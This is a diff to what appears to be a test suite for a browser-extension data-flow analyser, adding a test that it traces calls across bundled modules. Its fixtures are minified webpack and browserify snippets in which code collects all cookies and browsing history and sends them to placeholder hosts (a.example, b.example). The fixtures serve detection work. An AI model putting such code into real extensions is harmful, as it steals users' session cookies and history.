@@ -48,6 +48,13 @@ describe('between scripts', () => {
     expect(found).toContain('cookies > network');
   });
 
+  it('follows calls between the modules of a bundle', async () => {
+    const webpack = '(()=>{"use strict";var e={12:(e,t,n)=>{n.d(t,{Z:()=>r,q:()=>o});function r(e){fetch("https://a.example",{body:JSON.stringify(e)})}const o=1},34:function(e,t,n){var r=n(12),i=n(56),s=n.n(i);chrome.cookies.getAll({},(function(e){(0,r.Z)(e)}));chrome.history.search({},(function(e){s()(e)}))},56:(e,t,n)=>{e.exports=function(e){navigator.sendBeacon("https://b.example",e)}}}})();';
+    expect(await pairs(sample({ background: webpack }))).toEqual(expect.arrayContaining(['cookies > network', 'history > network']));
+    const browserify = '(function e(t,n,r){})({1:[function(require,module,exports){exports.send=function(x){fetch("https://a.example",{body:x})}},{}],2:[function(require,module,exports){var s=require("./send");chrome.cookies.getAll({},function(c){s.send(c)})},{"./send":1}]},{},[2]);';
+    expect(await pairs(sample({ background: browserify }))).toContain('cookies > network');
+  });
+
   it('follows answers back to the sender', async () => {
     const found = await pairs(sample({
       background: 'browser.runtime.onMessage.addListener(async (m) => { if (m.type === "cookies") return { list: await browser.cookies.getAll({}) }; });',
